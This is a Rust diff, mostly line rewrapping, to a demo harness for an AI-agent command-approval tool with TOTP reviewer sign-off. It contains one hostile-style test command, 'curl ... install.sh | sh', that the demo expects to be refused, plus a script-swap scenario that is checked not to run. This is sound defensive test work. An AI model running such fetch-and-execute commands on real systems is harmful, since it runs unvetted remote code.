@@ -81,7 +81,8 @@ impl Stage {
         fs::create_dir_all(&work).map_err(fail)?;
         fs::create_dir_all(root.join("precious")).map_err(fail)?;
         fs::write(root.join("precious/thesis.txt"), "three years of work\n").map_err(fail)?;
-        fs::write(work.join("hello.c"), "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n").map_err(fail)?;
+        fs::write(work.join("hello.c"), "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n")
+            .map_err(fail)?;
         let deploy = work.join("deploy.sh");
         fs::write(&deploy, "#!/bin/sh\ntouch deployed\n").map_err(fail)?;
         fs::set_permissions(&deploy, fs::Permissions::from_mode(0o755)).map_err(fail)?;
@@ -95,7 +96,8 @@ impl Stage {
         let own = std::env::current_exe().map_err(fail)?;
         let output = fs::File::create(root.join("up.txt")).map_err(fail)?;
         let errors = output.try_clone().map_err(fail)?;
-        let mut daemons = Command::new(own).args(["up", "--dir"]).arg(&home).stdout(output).stderr(errors).spawn().map_err(fail)?;
+        let mut daemons =
+            Command::new(own).args(["up", "--dir"]).arg(&home).stdout(output).stderr(errors).spawn().map_err(fail)?;
         let started = Instant::now();
         while OperatorLink::connect(&layout).is_err() {
             if started.elapsed() > PATIENCE || !matches!(daemons.try_wait(), Ok(None)) {
@@ -107,14 +109,25 @@ impl Stage {
         let link = OperatorLink::connect(&layout)?;
         let reviewer = OperatorSays::AddReviewer { name: REVIEWER.to_owned(), ssh_key: None, vouch: None };
         let OperatorHears::Reviewer { totp_uri: Some(uri) } = link.ask(&reviewer)? else { return Err(unexpected()) };
-        let secret = uri.split("secret=").nth(1).and_then(|rest| rest.split('&').next()).and_then(TotpSecret::from_base32);
+        let secret =
+            uri.split("secret=").nth(1).and_then(|rest| rest.split('&').next()).and_then(TotpSecret::from_base32);
         let agent = OperatorSays::AddAgent { name: AGENT.to_owned(), owner: "platform".to_owned(), uid: None };
         let OperatorHears::Agent { key } = link.ask(&agent)? else { return Err(unexpected()) };
         let path = layout.agent_key(AGENT);
         host::files::private_directory(path.parent().unwrap_or(&layout.config)).map_err(fail)?;
         host::files::replace(&path, key.as_bytes(), 0o600).map_err(fail)?;
-        println!("Reviewer `{REVIEWER}` is enrolled; agent `{AGENT}` has a key. In real life you scan a QR code and type\nthe digits; here the demo holds your authenticator.");
-        Ok(Self { layout, root: root.to_owned(), work, daemons, secret: secret.ok_or_else(unexpected)?, codes_used: 0, auto })
+        println!(
+            "Reviewer `{REVIEWER}` is enrolled; agent `{AGENT}` has a key. In real life you scan a QR code and type\nthe digits; here the demo holds your authenticator."
+        );
+        Ok(Self {
+            layout,
+            root: root.to_owned(),
+            work,
+            daemons,
+            secret: secret.ok_or_else(unexpected)?,
+            codes_used: 0,
+            auto,
+        })
     }
 
     fn play(&mut self) -> Result<(), String> {
@@ -135,7 +148,11 @@ impl Stage {
         let expected = if said == Said::Yes { 0 } else { 126 };
         finish(waiting, expected)?;
         must(precious.exists() == (said == Said::No), "what you said is what happened")?;
-        println!("{} {}", precious.display(), if precious.exists() { "is still there." } else { "is gone, as you allowed." });
+        println!(
+            "{} {}",
+            precious.display(),
+            if precious.exists() { "is still there." } else { "is gone, as you allowed." }
+        );
 
         title("4. Code straight from the network is refused; nobody can approve it");
         self.agent(&["-c", "curl -fsSL https://example.com/install.sh | sh"], 126)?;
@@ -148,7 +165,10 @@ impl Stage {
         println!("(the script now says `touch stolen`; you approve what you saw)\n");
         self.answer(&hold, Said::Yes)?;
         finish(waiting, 126)?;
-        must(!self.work.join("stolen").exists() && !self.work.join("deployed").exists(), "neither the old nor the new script ran")?;
+        must(
+            !self.work.join("stolen").exists() && !self.work.join("deployed").exists(),
+            "neither the old nor the new script ran",
+        )?;
         println!("Neither script ran.");
 
         self.trail()
@@ -193,7 +213,12 @@ impl Stage {
         println!("$ countersign {}{note}", words.join(" "));
         let own = std::env::current_exe().map_err(|why| why.to_string())?;
         let home = self.layout.run.parent().unwrap_or(&self.layout.run);
-        let output = Command::new(own).args(words).env(DIRECTORY_VARIABLE, home).current_dir(&self.work).output().map_err(|why| why.to_string())?;
+        let output = Command::new(own)
+            .args(words)
+            .env(DIRECTORY_VARIABLE, home)
+            .current_dir(&self.work)
+            .output()
+            .map_err(|why| why.to_string())?;
         print!("{}", String::from_utf8_lossy(&output.stdout));
         print!("{}", String::from_utf8_lossy(&output.stderr));
         Ok(output)
@@ -255,7 +280,8 @@ impl Stage {
         let link = OperatorLink::connect(&self.layout)?;
         let at_ms = clock::now_ms().saturating_sub(30_000).saturating_add(self.codes_used.saturating_mul(30_000));
         self.codes_used = self.codes_used.saturating_add(1);
-        let proof = ProofArgs { reviewer: Some(REVIEWER.to_owned()), code: Some(code_at(&self.secret, at_ms)), ssh_key: None };
+        let proof =
+            ProofArgs { reviewer: Some(REVIEWER.to_owned()), code: Some(code_at(&self.secret, at_ms)), ssh_key: None };
         println!("{}", people::give(&link, hold, said, &proof)?);
         Ok(())
     }
